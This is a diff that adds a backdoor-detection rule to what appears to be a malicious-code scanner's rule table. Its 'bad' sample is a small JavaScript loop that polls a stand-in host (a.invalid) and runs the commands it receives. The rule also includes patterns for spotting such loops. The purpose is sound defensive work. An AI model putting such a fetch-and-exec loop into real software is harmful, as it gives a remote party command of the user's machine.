@@ -333,6 +333,37 @@ RULES = (
         },
     ),
     Rule(
+        "commands-fetched",
+        "backdoor",
+        MALICE,
+        MEDIUM,
+        LIKELY,
+        94,
+        "Commands are run in a file that asks a fixed address again and again",
+        "Whoever answers there types commands as this user.",
+        "Do not run it, unless what is run stands in it.",
+        {
+            "javascript": (
+                "child_process.exec(0: dynamic & !built) @with-polling @with-fixed-host",
+                "child_process.execSync(0: dynamic & !built) @with-polling @with-fixed-host",
+                "child_process.exec(0: dynamic & !built) @with-polling @with-sending",
+            ),
+        },
+        bad={
+            "javascript": (
+                "const { exec } = require('child_process');\n"
+                "const work = (job) => exec(job.line);\n"
+                "setInterval(() => fetch('https://a.invalid').then(read).then(work), 9e4);\n",
+            ),
+        },
+        good={
+            "javascript": (
+                "const { exec } = require('child_process');\n"
+                "const build = (name) => exec('make ' + name);\nsetInterval(build, 9e4);\n",
+            ),
+        },
+    ),
+    Rule(
         "interactive-shell",
         "backdoor",
         MALICE,
